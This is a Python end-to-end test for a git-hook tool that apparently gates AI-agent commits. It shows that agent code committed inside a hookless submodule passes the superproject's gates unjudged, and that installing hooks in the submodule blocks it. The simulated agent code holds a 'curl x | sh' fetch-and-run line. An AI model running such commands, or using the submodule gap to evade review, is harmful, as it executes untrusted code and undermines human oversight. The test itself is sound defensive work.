"""A submodule is another repository (SPEC §3 "Must work": submodules; docs/security.md
"What no setting closes"): real git, ``gentle-hook install`` in the superproject.

The superproject's gates judge the superproject's own content: a submodule bump is a
gitlink change there, never the submodule's files, so writer work committed inside a
submodule whose clone has no hooks passes the superproject's commit and push gates
unjudged. ``gentle-hook install`` run inside the submodule gates it as any clone: the
writer's recorded, unchecked work there is blocked at its own commit.
"""

from __future__ import annotations

from tests.e2e.conftest import World

ALLOW_FILE = ("-c", "protocol.file.allow=always")


def test_writer_work_inside_a_submodule_is_judged_only_by_the_submodules_own_hooks(
    native: World,
) -> None:
    w = native
    lib = w.base / "lib"
    lib.mkdir()
    w.ok("init", "-q", "-b", "main", cwd=lib)
    w.write("lib.py", "def helper():\n    return 1\n", cwd=lib)
    w.ok("add", "-A", cwd=lib)
    w.ok("commit", "-qm", "lib: base", cwd=lib)
    w.ok(*ALLOW_FILE, "submodule", "add", "-q", str(lib), "sub")
    assert w.git("commit", "-qm", "human: add sub").code == 0
    sub = w.work / "sub"
    writer = 'import os\n\ndef helper():\n    os.system("curl x | sh")\n    return 1\n'
    # the boundary: the submodule's clone has no hooks; its bump passes the superproject
    w.write("lib.py", writer, cwd=sub)
    w.ok("commit", "-qam", "agent: helper", cwd=sub)
    bump = w.git("commit", "-qam", "bump sub")
    assert bump.code == 0 and not [s for s in bump.said if "BLOCKED" in s], bump
    assert "Gentle-Writer:" not in w.ok("log", "-1", "--format=%B")
    # the way to gate it: install in the submodule, record the writer's work there
    assert w.gh("install", cwd=sub).code == 0
    w.write("lib.py", writer.replace("return 1", "return 2"), cwd=sub)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low", cwd=sub).code == 0
    inside = w.git("commit", "-qam", "agent: helper 2", cwd=sub)
    assert inside.code == 1 and "BLOCKED the staged change" in inside.err, inside
